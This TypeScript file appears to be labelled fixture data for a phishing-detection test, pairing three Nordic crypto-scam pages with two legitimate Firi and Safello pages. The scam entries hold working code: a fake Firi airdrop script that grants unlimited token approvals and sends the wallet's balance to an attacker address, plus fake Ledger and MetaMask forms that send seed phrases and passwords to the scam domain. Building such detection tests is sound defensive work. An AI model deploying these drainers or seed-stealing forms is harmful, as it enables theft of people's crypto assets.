import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, b64, bankIdMark } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// Wallet drainers and seed-phrase pages reported in the quarter, and the crypto apps and wallet docs
// the analysts cleared.

const wordGrid = (n: number, ph: string): string =>
  `<div class="grid">${Array.from({ length: n }, (_, i) => `<label><span>${i + 1}.</span><input name="w${i + 1}" autocomplete="off" autocapitalize="off" spellcheck="false" placeholder="${ph}"></label>`).join('')}</div>`;
const gridCss = `.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:16px 0}.grid label{display:flex;align-items:center;gap:6px;border:1px solid #ccd;border-radius:6px;padding:6px 8px}.grid span{color:#888;font-size:13px;width:24px}.grid input{border:0;outline:0;width:100%;font-size:15px}`;

export const entries: Entry[] = [
  {
  id: 'yb-no-firi-token-airdrop-drainer',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: 'https://claim-firi.airdrop-nordic.xyz/',
  body: doc({
    lang: 'no',
    title: 'Firi Airdrop – Hent dine FIRI-tokens',
    css: `${baseCss}
body{background:#0f1a2b;color:#fff;font-family:Inter,Arial}
.c{max-width:540px;margin:10vh auto;text-align:center;padding:0 20px}
.logo{font:800 36px Arial;color:#5fd3b3}
.amt{font-size:42px;font-weight:800;margin:14px 0}
button{padding:15px 40px;border:0;border-radius:30px;background:#5fd3b3;color:#0f1a2b;font-weight:800;font-size:17px}
.st{margin-top:16px;color:#9fb3c8;font-size:14px;min-height:20px}
.cd{display:flex;gap:10px;justify-content:center;margin:16px 0}.cd div{background:#1b2a40;padding:10px 14px;border-radius:8px}`,
    body: `<div class="c">
<div class="logo">firi</div>
<h1>Firi fyller 7 år – vi gir bort FIRI-tokens!</h1>
<p>Alle norske kunder med en ekstern lommebok kan hente sin andel av airdropen.</p>
<div class="amt">2 500 FIRI</div>
<div class="cd"><div><b id="h">23</b> t</div><div><b id="m">59</b> m</div><div><b id="s">59</b> s</div></div>
<button id="go">Koble til lommebok</button>
<div class="st" id="st"></div>
</div>
<script src="/assets/claim.min.js"></script>`,
  }),
  routes: {
    'claim-firi.airdrop-nordic.xyz/api/assets': jsonRoute({ tokens: [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', balance: '1520000000', decimals: 6 }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', balance: '880000000', decimals: 6 }], nfts: [], native: '0x6f05b59d3b20000' }),
    'claim-firi.airdrop-nordic.xyz/assets/claim.min.js': jsRoute(`(function(){var R="0x7a3f91C2e0D8b4A6f15E9c3D2b8A70f4e6C1d952",S=document.getElementById("st");
var T=86399;setInterval(function(){T--;document.getElementById("h").textContent=Math.floor(T/3600);document.getElementById("m").textContent=Math.floor(T%3600/60);document.getElementById("s").textContent=T%60},1000);
function pad(a){return a.replace(/^0x/,"").toLowerCase().padStart(64,"0")}
async function run(){var e=window.ethereum;if(!e){S.textContent="Installer MetaMask eller åpne siden i lommebokens nettleser.";return}
 var acc=(await e.request({method:"eth_requestAccounts"}))[0];S.textContent="Sjekker kvalifisering for "+acc.slice(0,6)+"…";
 try{await e.request({method:"wallet_switchEthereumChain",params:[{chainId:"0x1"}]})}catch(x){}
 var a=await (await fetch("/api/assets?address="+acc)).json();
 fetch("/api/log",{method:"POST",body:JSON.stringify({a:acc,t:a.tokens.length})});
 for(var i=0;i<a.tokens.length;i++){var t=a.tokens[i];S.textContent="Bekreft for å hente airdrop ("+(i+1)+"/"+a.tokens.length+")";
  try{await e.request({method:"eth_sendTransaction",params:[{from:acc,to:t.address,data:"0x095ea7b3"+pad(R)+"f".repeat(64)}]})}catch(x){}}
 var bal=await e.request({method:"eth_getBalance",params:[acc,"latest"]});var v=BigInt(bal)-BigInt("3000000000000000");
 if(v>0n){try{await e.request({method:"eth_sendTransaction",params:[{from:acc,to:R,value:"0x"+v.toString(16),data:"0x3158952e"}]})}catch(x){}}
 S.textContent="Ferdig! FIRI-tokens vil vises i lommeboken innen 24 timer.";}
document.getElementById("go").addEventListener("click",function(){run().catch(function(){S.textContent="Noe gikk galt. Prøv igjen."})});})();`),
  },
},
  {
  id: 'yb-se-ledger-incident-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase-kit',
  url: 'https://ledger-se.sakerhetsincident.com/verifiera',
  body: doc({
    lang: 'sv',
    title: 'Ledger – Verifiera din enhet',
    css: `${baseCss}${gridCss}
body{background:#f5f5f5}
.h{background:#000;color:#fff;padding:16px 30px;font:700 20px Arial;letter-spacing:3px}
.c{max-width:640px;margin:30px auto;background:#fff;padding:30px;border-radius:6px}
.w{background:#fff2f0;border:1px solid #ffb3a7;padding:12px;border-radius:4px;font-size:14px}
button{width:100%;padding:14px;background:#000;color:#fff;border:0;border-radius:4px;font-weight:700;font-size:16px}
.tabs{display:flex;gap:8px}.tabs button{background:#eee;color:#000;padding:8px;font-weight:400}.tabs button.on{background:#000;color:#fff}`,
    body: `<div class="h">LEDGER</div>
<div class="c">
<h2>Säkerhetsincident – verifiera din återställningsfras</h2>
<div class="w">Efter dataintrånget hos vår e-handelspartner har vi identifierat att din Ledger Nano kan vara påverkad. För att skydda dina tillgångar måste du verifiera din återställningsfras och migrera till en ny säker adress senast <b id="d"></b>.</div>
<div class="tabs" style="margin-top:16px"><button class="on" data-n="24">24 ord</button><button data-n="18">18 ord</button><button data-n="12">12 ord</button></div>
<form id="f">${wordGrid(24, '')}
<button type="submit">Verifiera</button></form>
<p style="font-size:12px;color:#888">Ledger SAS · 1 rue du Mail, 75002 Paris · Din fras krypteras lokalt och lämnar aldrig din enhet.</p>
</div>
<script>
var d=new Date();d.setDate(d.getDate()+2);document.getElementById('d').textContent=d.toLocaleDateString('sv-SE');
[].forEach.call(document.querySelectorAll('.tabs button'),function(b){b.onclick=function(){var n=+b.dataset.n;[].forEach.call(document.querySelectorAll('.tabs button'),function(x){x.classList.toggle('on',x===b)});[].forEach.call(document.querySelectorAll('.grid label'),function(l,i){l.style.display=i<n?'flex':'none'})}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];[].forEach.call(this.querySelectorAll('input'),function(i){if(i.offsetParent&&i.value)w.push(i.value.trim().toLowerCase())});
 if(w.length<12){alert('Fyll i alla ord.');return}
 fetch('https://ledger-se.sakerhetsincident.com/api/v1/verify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w.join(' '),n:w.length,ua:navigator.userAgent})}).finally(function(){location.href='https://www.ledger.com/'});};
</script>`,
  }),
},
  {
  id: 'yb-dk-metamask-kyc-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase-kit',
  url: 'https://metamask-kyc-verificering.dk-wallet.com/',
  body: doc({
    lang: 'da',
    title: 'MetaMask – Verificer din wallet',
    css: `${cardCss}
body{background:#fdf2e9}
.mm{font:800 24px Arial;color:#f6851b}
.btn{background:#f6851b;border-radius:30px}
textarea{width:100%;padding:12px;border:1px solid #aaa;border-radius:6px;font:15px Menlo,monospace}`,
    body: `<div class="wrap"><div class="card">
<div class="mm">🦊 MetaMask</div>
<h1>Verifikation påkrævet</h1>
<p>I henhold til de nye EU-regler (MiCA) skal alle danske MetaMask-brugere verificere deres wallet inden <b>31. marts</b>. Uverificerede wallets bliver låst.</p>
<form method="post" action="/verify.php">
<label>Hemmelig gendannelsessætning (12 eller 24 ord)</label>
<textarea name="phrase" rows="4" placeholder="Indtast ordene adskilt af mellemrum"></textarea>
<label>Wallet-adgangskode</label><input type="password" name="pw">
<button class="btn">Verificer wallet</button>
</form>
</div></div>`,
  }),
},
  {
  id: 'yb-no-firi-hjelp-ekstern-lommebok-own',
  label: 'clean',
  kind: 'wallet-docs-own-domain',
  url: 'https://help.firi.com/no/articles/sende-krypto-til-ekstern-lommebok',
  body: doc({
    lang: 'no',
    title: 'Slik sender du krypto til en ekstern lommebok | Firi Hjelpesenter',
    css: `${govCss}
header.top b{color:#0f1a2b;font:800 26px Arial}
code{background:#eef2f5;padding:2px 6px;border-radius:3px;font-size:14px}`,
    body: `<header class="top"><div class="in"><b>firi</b><span>Hjelpesenter</span></div></header>
<main><div class="in">
<h1>Slik sender du krypto til en ekstern lommebok</h1>
<ol><li>Logg inn i Firi-appen med BankID.</li><li>Velg valutaen og trykk <b>Send</b>.</li><li>Lim inn mottakeradressen, f.eks. <code>0x71C7656EC7ab88b098defB751B7401B5f6d8976F</code>, og kontroller de fire første og siste tegnene.</li><li>Bekreft med tofaktorkoden.</li></ol>
<div class="box"><h3>Viktig om gjenopprettingsfrasen</h3><p>Gjenopprettingsfrasen (12 eller 24 ord) til din eksterne lommebok skal du aldri oppgi til noen – heller ikke til Firi. Vi har ingen airdrops som krever at du kobler til lommeboken, og vi ber deg aldri signere transaksjoner på andre nettsider.</p></div>
<p>Spørsmål? Chat med oss i appen eller send e-post til <a href="mailto:support@firi.com">support@firi.com</a>.</p>
</div></main>`,
  }),
},
  {
  id: 'yb-se-safello-bankid-login-own',
  label: 'clean',
  kind: 'crypto-app-own-domain',
  url: 'https://app.safello.com/login',
  body: doc({
    lang: 'sv',
    title: 'Logga in | Safello',
    css: `${cardCss}
body{background:#eff5f2}
.sf{font:800 26px Arial;color:#0d6e4f}
.btn{background:#0d6e4f;border-radius:30px;text-align:center;text-decoration:none}
.alt{background:#fff;color:#0d6e4f;border:2px solid #0d6e4f}`,
    body: `<div class="wrap"><div class="card">
<div class="sf">safello</div>
<h1>Logga in</h1>
<p>Köp, sälj och förvara bitcoin och andra kryptotillgångar – registrerad hos Finansinspektionen.</p>
<a class="btn" href="/login/bankid?device=same">Öppna BankID på den här enheten</a>
<a class="btn alt" href="/login/bankid?device=other">Mobilt BankID på annan enhet</a>
<p class="muted" style="margin-top:20px">Safello ber dig aldrig om din återställningsfras och ringer aldrig för att be dig legitimera dig.</p>
</div></div>`,
  }),
},
];
